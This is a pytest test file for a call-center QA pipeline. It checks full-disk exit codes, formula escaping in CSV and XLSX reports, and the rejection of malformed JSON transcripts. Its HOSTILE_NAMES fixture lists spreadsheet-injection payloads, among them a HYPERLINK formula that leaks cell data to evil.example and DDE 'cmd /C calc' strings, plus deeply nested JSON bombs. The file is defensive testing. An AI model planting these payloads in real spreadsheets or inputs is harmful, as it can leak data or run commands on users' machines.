"""A nightly batch nothing can break, round two (issue 34): honest exit codes, files that
change under the run, manifests and transcripts built to hurt, reports without formulas.

Each test here failed on the code before issue 34.
"""

from __future__ import annotations

import contextlib
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

ROOT = Path(__file__).resolve().parents[1]
ZH = ROOT / "samples" / "zh_transcripts"
CALLQA = [sys.executable, "-m", "pipeline.cli"]


@contextlib.contextmanager
def _small_filesystem(where: Path, size: str = "4m"):
    """A tmpfs of ``size`` mounted at ``where`` (root only), unmounted afterwards."""
    where.mkdir(parents=True, exist_ok=True)
    try:
        subprocess.run(
            ["mount", "-t", "tmpfs", "-o", f"size={size}", "tmpfs", str(where)],
            check=True,
            capture_output=True,
        )
    except (OSError, subprocess.CalledProcessError) as exc:
        pytest.skip(f"cannot mount a small tmpfs to fill (needs root): {exc}")
    try:
        yield where
    finally:
        subprocess.run(["umount", "-l", str(where)], check=False)


def _fill(folder: Path, leave: int) -> None:
    """Fill ``folder``'s filesystem up to ``leave`` free bytes."""
    st = os.statvfs(folder)
    free = st.f_bavail * st.f_frsize
    (folder / "filler").write_bytes(b"\0" * max(0, free - leave))


# --------------------------------------------------------------------------- 1. exit codes


@pytest.mark.slow
def test_a_run_stopped_by_a_full_disk_exits_1(tmp_path):
    """The store's disk fills up: the summary says STOPPED and ``callqa run`` exits 1."""
    from pipeline.store import open_store

    archive = tmp_path / "a"
    archive.mkdir()
    for i in range(5):
        shutil.copy(ZH / "bank_001_compliant.json", archive / f"c{i}.json")
    with _small_filesystem(tmp_path / "db") as db:
        url = f"sqlite:///{db / 'qa.db'}"
        open_store(url).engine.dispose()  # schema made while there is room
        _fill(db, leave=64 * 1024)  # room for the run's start, not for a call
        env = {**os.environ, "PREFECT_HOME": str(tmp_path / "prefect")}
        out = subprocess.run(
            [*CALLQA, "run", str(archive), "--db", url],
            capture_output=True,
            text=True,
            env=env,
            timeout=300,
        )
    assert "STOPPED" in out.stdout and "full" in out.stdout, out.stdout + out.stderr[-2000:]
    assert out.returncode == 1, out.stdout


# --------------------------------------------------------------------------- 6/7. reports

HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "Bob\x00Stone",
    "Eve\x1b[31m",
    "$\\frac{1}{$ Mathtext $",
]


@pytest.fixture()
def hostile_store(tmp_path):
    """The coaching test archive with a hostile agent name and team on every call (stored
    values as an older version or another tool may have written them)."""
    from sqlalchemy import text

    from tests.builders import build_archive

    archive = build_archive(tmp_path)
    with archive.store.engine.begin() as db:
        ids = [r[0] for r in db.execute(text("SELECT call_id FROM calls ORDER BY call_id"))]
        for i, call_id in enumerate(ids):
            name = HOSTILE_NAMES[i % len(HOSTILE_NAMES)]
            db.execute(
                text("UPDATE calls SET agent_name = :n, team = :t WHERE call_id = :c"),
                {"n": name, "t": HOSTILE_NAMES[(i + 5) % len(HOSTILE_NAMES)], "c": call_id},
            )
    return archive


def _formula_like(value) -> bool:
    return isinstance(value, str) and value.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_report_never_carries_a_formula_nor_dies_on_a_control_character(hostile_store, tmp_path):
    import csv

    from click.testing import CliRunner
    from openpyxl import load_workbook

    from pipeline.cli import cli

    out = tmp_path / "report"
    res = CliRunner().invoke(cli, ["report", "--db", hostile_store.url, "--out", str(out)])
    assert res.exit_code == 0, res.output + repr(res.exception)
    seen = set()
    for name in ("agents.csv", "teams.csv", "calls.csv"):
        with (out / name).open(newline="", encoding="utf-8") as fh:
            for row in csv.reader(fh):
                for cell in row:
                    assert not _formula_like(cell), (name, cell)
                    assert "\x00" not in cell and "\x1b" not in cell, (name, cell)
                    seen.add(cell)
    assert '\'=HYPERLINK("http://evil.example/?x="&A1,"click")' in seen  # kept, as text
    assert "Bob\\x00Stone" in seen  # the NUL shown, not dropped silently
    book = load_workbook(out / "report.xlsx")
    cells = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for c in row:
                cells += 1
                assert c.data_type != "f", (sheet.title, c.coordinate, c.value)
                assert not _formula_like(c.value), (sheet.title, c.coordinate, c.value)
    assert cells > 50


@pytest.mark.parametrize(
    "value, cell",
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("a=1", "a=1"),
        ("Bob\x00", "Bob\\x00"),
        ("\x00=1", "\\x00=1"),
        ("x" * 40_000, "x" * 32_767),
        (float("inf"), None),
        (float("nan"), None),
        (-1.5, -1.5),
        (3, 3),
        (None, None),
    ],
)
def test_cells_escape_formulas_the_owasp_way(value, cell):
    from pipeline.cells import safe_cell

    got = safe_cell(value)
    assert got == cell or (got is None and cell is None), (value, got)



# --------------------------------------------------------------------------- 9. transcripts


def _bank_doc() -> dict:
    import json

    return json.loads((ZH / "bank_001_compliant.json").read_text("utf-8"))


def _with_end(value: str) -> str:
    """The sample transcript's JSON text with the first utterance ending at ``value``."""
    import json

    doc = _bank_doc()
    doc["utterances"][0]["end"] = 123456789.0
    return json.dumps(doc, ensure_ascii=False).replace("123456789.0", value, 1)


def _long_text() -> str:
    import json

    doc = _bank_doc()
    doc["utterances"][0]["text"] = "很" * 200_000
    return json.dumps(doc, ensure_ascii=False)


HOSTILE_TRANSCRIPTS = {
    "infinity": (lambda: _with_end("Infinity"), "not strict JSON: Infinity"),
    "minus_infinity": (lambda: _with_end("-Infinity"), "not strict JSON: -Infinity"),
    "nan": (lambda: _with_end("NaN"), "not strict JSON: NaN"),
    "huge": (lambda: _with_end("1e308"), "less than or equal to 604800"),
    "overflow": (lambda: _with_end("1e999"), "finite number"),
    "deep": (lambda: '{"utterances": ' + "[" * 200_000 + "]" * 200_000 + "}", "nested too deep"),
    "long_text": (_long_text, "at most 100000 characters"),
}


@pytest.mark.parametrize("name", sorted(HOSTILE_TRANSCRIPTS))
def test_hostile_transcript_is_refused_at_the_contract_naming_file_and_reason(tmp_path, name):
    from pipeline.schema import ContractError, Transcript

    make, reason = HOSTILE_TRANSCRIPTS[name]
    path = tmp_path / f"{name}.json"
    path.write_text(make(), "utf-8")
    with pytest.raises(ContractError) as err:
        Transcript.load(path)
    assert str(path) in str(err.value) and reason in str(err.value), str(err.value)[:500]


def test_hostile_transcripts_are_stored_as_failed_calls_and_the_good_one_scored(tmp_path):
    """Through the processor: each hostile transcript becomes a stored failure with its
    reason (a 200,000-deep one raised RecursionError and was never stored)."""
    from pipeline.archive import discover
    from pipeline.config import load_settings
    from pipeline.process import CallProcessor

    archive = tmp_path / "a"
    archive.mkdir()
    shutil.copy(ZH / "bank_001_compliant.json", archive / "good.json")
    for name, (make, _) in HOSTILE_TRANSCRIPTS.items():
        (archive / f"{name}.json").write_text(make(), "utf-8")
    processor = CallProcessor(load_settings(database_url=f"sqlite:///{tmp_path / 'qa.db'}"))
    outcomes = {job.call_id: processor.process(job) for job in discover(archive)}
    assert outcomes.pop("good").status == "scored"
    stored = {r["call_id"]: r for r in processor.store.list_calls()}
    for name, (_, reason) in HOSTILE_TRANSCRIPTS.items():
        assert outcomes[name].status == "failed" and reason in outcomes[name].error, outcomes[name]
        assert stored[name]["status"] == "failed" and reason in stored[name]["error"]


def test_calls_json_is_strict_json_whatever_is_stored(tmp_path):
    """A stored infinity (written before transcripts were checked) prints as null."""
    import json

    from click.testing import CliRunner
    from sqlalchemy import text

    from pipeline.cli import cli
    from tests.builders import build_archive

    archive = build_archive(tmp_path)
    with archive.store.engine.begin() as db:
        db.execute(text("UPDATE calls SET duration = :inf"), {"inf": float("inf")})
    res = CliRunner().invoke(cli, ["calls", "--db", archive.url, "--json"])
    assert res.exit_code == 0, res.output

    def refuse(constant):
        raise AssertionError(f"non-strict JSON constant {constant} printed")

    rows = json.loads(res.output, parse_constant=refuse)
    assert rows and all(r.get("duration") is None for r in rows if "duration" in r)
    assert any("duration" in r for r in rows)
